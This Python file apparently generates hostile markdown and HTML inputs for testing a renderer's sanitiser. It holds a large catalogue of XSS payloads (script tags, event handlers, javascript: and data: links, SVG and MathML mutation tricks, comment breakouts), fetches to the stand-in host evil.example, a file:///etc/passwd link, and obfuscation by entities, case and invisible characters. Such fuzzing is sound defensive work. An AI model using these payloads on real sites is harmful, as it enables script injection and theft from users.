"""Makes hostile texts: what would run, or fetch, if any of it were ever read as HTML or followed.

A payload is an attack, spelt in one of several ways, put into some markdown. All are drawn from one
seeded source, so that a number names the same payload everywhere.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Callable, Iterator

SCRIPT = "window.pwned=1"
ELSEWHERE = "https://evil.example/x"
MARKS = ("\u202e", "\u200b", "\ufeff", "\x00", "\x01", "\u2028", "\ud83d", "\ude00", "\U0001f600")
HANDLERS = ("onerror", "onload", "onclick", "onfocus", "ontoggle", "onbegin", "onpointerup")

TAGS = (
    "<script>{js}</script>",
    "<script src={url}></script>",
    "<script type=module>{js}</script>",
    "<img src=x {on}={js}>",
    "<img src={url}>",
    "<img srcset='{url} 1x'>",
    "<picture><source srcset={url}><img></picture>",
    "<video src={url} autoplay {on}='{js}'></video>",
    "<audio><source {on}={js}></audio>",
    "<input autofocus {on}={js}>",
    "<details open {on}={js}>x</details>",
    "<body {on}={js}>",
    "<a href='javascript:{js}'>x</a>",
    "<a href='data:text/html,<script>{js}</script>'>x</a>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src='javascript:parent.{js}'></iframe>",
    "<object data={url}></object><embed src={url}>",
    "<link rel=stylesheet href={url}><base href={url}>",
    "<link rel=preload as=script href={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<form action={url}><button formaction='javascript:{js}'>x</button></form>",
    "<style>@import '{url}'; * {{ background: url({url}) }}</style>",
    "<p style='background:url({url})'>x</p>",
    "<template><script>{js}</script></template>",
    "<dialog open {on}={js}>x</dialog><marquee {on}={js}>x</marquee>",
)
FOREIGN = (
    "<svg {on}={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><a xlink:href='javascript:{js}'><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x {on}={js}/>#x'/></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
    "<svg><foreignObject><img src=x {on}={js}></foreignObject></svg>",
    "<svg><image href={url} /></svg>",
    "<math href='javascript:{js}'>x</math>",
    "<math><mtext><img src=x {on}={js}></mtext></math>",
    "<math><annotation-xml encoding=text/html><script>{js}</script></annotation-xml></math>",
)
MUTATIONS = (
    "<svg></p><style><a id='</style><img src=x {on}={js}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=x {on}={js}>'>",
    "<noscript><p title='</noscript><img src=x {on}={js}>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x {on}={js}>",
    "<select><style></select><script>{js}</script></style>",
    "<textarea></textarea><img src=x {on}={js}>",
    "<title></title><img src=x {on}={js}>",
    "<xmp></xmp><script>{js}</script>",
    "<p id='a&quot;<svg {on}={js}>'>",
    "<![CDATA[</p><img src=x {on}={js}>]]>",
)
COMMENTS = (
    "<!--><img src=x {on}={js}>-->",
    "<!-- --!><img src=x {on}={js}>",
    "<!--<img src='--><img src=x {on}={js}>'>",
    "<?xml version='1.0'?><script>{js}</script>",
    "<!DOCTYPE html [<!ENTITY x '<script>{js}</script>'>]>&x;",
    "</p><script>{js}</script",
    "<img src=x {on}={js} //",
    "<<script>{js}//<</script>",
    '"><script>{js}</script>',
    "'-{js}-'",
)
LINKS = (
    "[x](javascript:{js})",
    "[x](JaVaScRiPt:{js})",
    "[x](java\nscript:{js})",
    "[x](java\tscript:{js})",
    "[x](\x01javascript:{js})",
    "[x](<javascript:{js}>)",
    "[x](javascript&#58;{js})",
    "[x](&#106;avascript:{js})",
    "[x](&#x6A;avascript&colon;{js})",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[x](vbscript:{js})",
    "[x](blob:{url})",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](./models/index.json)",
    '[x]({url} "title\\" {on}={js}")',
    "[x][y]\n\n[y]: javascript:{js}",
    "[y]\n\n[y]: <javascript:{js}> 'title'",
    "<javascript:{js}>",
    "<{url}>",
    "{url}",
    "www.evil.example/x",
    "[![x]({url})](javascript:{js})",
    "![x]({url})",
    "![x](javascript:{js})",
    "![x](x' {on}='{js})",
    "![x](data:image/svg+xml,<svg {on}={js}/>)",
    "![x][y]\n\n[y]: {url}",
)
TEMPLATES = (
    "${{{js}}}",
    "`${{{js}}}`",
    "{{{{constructor.constructor('{js}')()}}}}",
    "<%= {js} %>",
    "#{{{js}}}",
    "[[${{{js}}}]]",
    "eval('{js}'); Function('{js}')(); setTimeout('{js}')",
    "');{js};//",
    "__proto__ constructor toString hasOwnProperty <b>{js}</b>",
)
ATTACKS = (*TAGS, *FOREIGN, *MUTATIONS, *COMMENTS, *LINKS, *TEMPLATES)

Change = Callable[[str, random.Random], str]


def _entities(text: str, source: random.Random) -> str:
    """Spell some characters as references."""
    kinds = ("&#{0};", "&#x{0:x};", "&#{0:07}", "&#X{0:X};")
    return "".join(
        source.choice(kinds).format(ord(c)) if source.random() < 0.4 else c for c in text
    )


def _mixed_case(text: str, source: random.Random) -> str:
    return "".join(c.upper() if source.random() < 0.5 else c for c in text)


def _marked(text: str, source: random.Random) -> str:
    """Put in characters that readers overlook, and halves of characters."""
    at = source.randrange(len(text) + 1)
    return text[:at] + source.choice(MARKS) + text[at:]


def _escaped(text: str, source: random.Random) -> str:
    """Put backslashes before some of markdown's marks."""
    return "".join("\\" + c if c in "<>[]()`*&" and source.random() < 0.3 else c for c in text)


def _long(text: str, source: random.Random) -> str:
    return source.choice(("A", "<b>", "[", "**a ", "&lt;")) * source.randrange(500, 3000) + text


def _plain(text: str, source: random.Random) -> str:
    return text


SPELLINGS: tuple[Change, ...] = (
    *([_plain] * 4),
    _entities,
    _mixed_case,
    _marked,
    _escaped,
    _long,
)
PLACES = (
    *(["{0}"] * 4),
    "Some text {0} and more.",
    "> {0}",
    "- {0}\n- [ ] {0}",
    "# {0}",
    "**{0}**",
    "`{0}`",
    "```html\n{0}\n```",
    "```{0}\ncode\n```",
    "~~~\n{0}",
    "| {0} | b |\n|---|---|\n| c | {0} |",
    "1. {0}\n\n   {0}",
    "[{0}](https://example.org/)",
    "<div>\n\n{0}\n\n</div>",
)


def payloads() -> Iterator[str]:
    """Yield payloads without an end, all of them different, every attack first as it is."""
    seen = set()
    for payload in _drawn(random.Random("webgemma payloads")):
        if payload not in seen:
            yield payload
        seen.add(payload)


def _drawn(source: random.Random) -> Iterator[str]:
    fill = {"js": SCRIPT, "url": ELSEWHERE}
    for attack in ATTACKS:
        yield attack.format(on=HANDLERS[0], **fill)
    while True:
        attack = source.choice(ATTACKS).format(on=source.choice(HANDLERS), **fill)
        yield source.choice(PLACES).format(source.choice(SPELLINGS)(attack, source))


def pieces(text: str, seed: int) -> list[str]:
    """Cut a text at random places between its UTF-16 units, as a model's tokens may."""
    source = random.Random(seed)
    units = text.encode("utf-16-le", "surrogatepass")
    count = min(len(units) // 2, source.randrange(1, 13))
    inner = sorted(2 * source.randrange(len(units) // 2) for _ in range(count))
    ends = [0, *inner, len(units)]
    parts = [units[a:b] for a, b in itertools.pairwise(ends) if a < b]
    return [part.decode("utf-16-le", "surrogatepass") for part in parts]
